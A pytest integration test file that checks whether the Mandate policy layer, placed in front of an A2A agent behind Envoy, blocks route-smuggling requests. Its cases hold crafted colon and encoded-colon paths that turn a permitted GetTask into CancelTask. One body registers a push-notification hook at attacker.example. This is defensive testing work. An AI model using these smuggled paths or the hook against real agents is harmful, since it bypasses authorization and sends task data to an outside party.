"""A2A route smuggling, through Envoy to the real a2a-sdk agent: Mandate reads what the agent runs.

billing-agent serves the SDK's JSON-RPC endpoint at `/` and its HTTP+JSON routes (v1.0, the
`/{tenant}` mount, v0.3's `/v1/...`), and logs which method its router hands each request to
(`EchoAgent.dispatched`). support-agent may SendMessage, SendStreamingMessage and GetTask
billing-agent, nothing else. The red-team finding: a body saying GetTask on a path whose tenant
or task id holds a `:` ran CancelTask, or created a push-notification config. Every request
here is either refused by Mandate before the agent sees it, or runs exactly the method Mandate
allowed. tests/unit/test_a2a_dispatch.py holds the same against the SDK's apps in-process, for
generated requests.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.harness.clients import raw_client
from tests.harness.envoy import EnvoyProcess
from tests.harness.pki import CertPair, MeshPKI
from tests.harness.policies import BILLING_HOST
from tests.harness.upstreams import Upstream
from tests.harness.upstreams.a2a_agent import EchoAgent


def rpc(method: str, **params: object) -> bytes:
    return json.dumps({"jsonrpc": "2.0", "id": 9, "method": method, "params": params}).encode()


GET_TASK = rpc("GetTask", id="task-1")
HOOK = json.dumps(
    {"jsonrpc": "2.0", "id": 9, "method": "GetTask", "params": {"id": "task-1"}, "url": "https://attacker.example/hook"}
).encode()
HEADERS = {"a2a-version": "1.0", "content-type": "application/json"}
MESSAGE = json.dumps({"message": {"messageId": "m1", "role": "ROLE_USER", "parts": [{"text": "hi"}]}}).encode()


@pytest.mark.parametrize(
    ("verb", "path", "body", "reason"),
    [
        pytest.param("POST", "/t:x/tasks/task-1:cancel", GET_TASK, "a2a_method_not_allowed", id="colon-tenant-cancel"),
        pytest.param("POST", "/tasks/task:1:cancel", GET_TASK, "a2a_method_not_allowed", id="colon-id-cancel"),
        pytest.param(
            "POST", "/t:x/tasks/task-1/pushNotificationConfigs", HOOK, "a2a_method_not_allowed", id="push-config"
        ),
        pytest.param("POST", "/tasks/task%3A1%3Acancel", GET_TASK, "a2a_method_not_allowed", id="encoded-colons"),
        pytest.param("POST", "/v1/tasks/task-1:cancel", GET_TASK, "a2a_method_not_allowed", id="v0.3-cancel"),
        pytest.param("POST", "/a2a", GET_TASK, "unsupported_binding", id="jsonrpc-off-its-endpoint"),
        pytest.param("POST", "/tasks/task-1", GET_TASK, "unsupported_binding", id="no-route"),
        pytest.param("POST", "/tasks/task-1:cancel/", GET_TASK, "unsupported_binding", id="trailing-slash"),
    ],
)
def test_smuggled_paths_are_read_as_the_agent_routes_them_and_refused(
    envoy: EnvoyProcess,
    pki: MeshPKI,
    support_cert: CertPair,
    billing_agent: tuple[Upstream, EchoAgent],
    verb: str,
    path: str,
    body: bytes,
    reason: str,
) -> None:
    response, forwarded, dispatched = through_envoy(envoy, pki, support_cert, billing_agent, verb, path, body)
    assert response.status_code == 403, response.text
    answer = response.json()
    assert (answer.get("reason") or answer["error"]["data"]["reason"]) == reason
    assert forwarded == [] and dispatched == []


@pytest.mark.parametrize(
    ("verb", "path", "body", "method"),
    [
        pytest.param("GET", "/tasks/task-1", b"", "GetTask", id="get-task"),
        pytest.param("GET", "/t:x/tasks/task-1:cancel", b"", "GetTask", id="colon-id-is-get-task-on-GET"),
        pytest.param("POST", "/t:x/message:send", MESSAGE, "SendMessage", id="tenant-with-colon"),
        pytest.param("POST", "/", GET_TASK, "jsonrpc", id="jsonrpc-at-root"),
    ],
)
def test_allowed_requests_run_the_method_mandate_allowed(
    envoy: EnvoyProcess,
    pki: MeshPKI,
    support_cert: CertPair,
    billing_agent: tuple[Upstream, EchoAgent],
    verb: str,
    path: str,
    body: bytes,
    method: str,
) -> None:
    response, forwarded, dispatched = through_envoy(envoy, pki, support_cert, billing_agent, verb, path, body)
    assert response.status_code != 403, response.text  # the agent answers (GetTask: task not found)
    assert [(seen.method, seen.path) for seen in forwarded] == [(verb, path)]
    assert dispatched == [method]


def through_envoy(
    envoy: EnvoyProcess,
    pki: MeshPKI,
    cert: CertPair,
    billing_agent: tuple[Upstream, EchoAgent],
    verb: str,
    path: str,
    body: bytes,
) -> tuple[Any, list[Any], list[str]]:
    """The request through Envoy as `cert`; what Envoy forwarded and what the agent dispatched."""
    upstream, agent = billing_agent
    mark, ran = upstream.recorder.mark(), len(agent.dispatched)
    with raw_client(envoy, pki, cert, BILLING_HOST, **HEADERS) as client:
        response = client.request(verb, path, content=body)
    return response, upstream.recorder.since(mark), agent.dispatched[ran:]
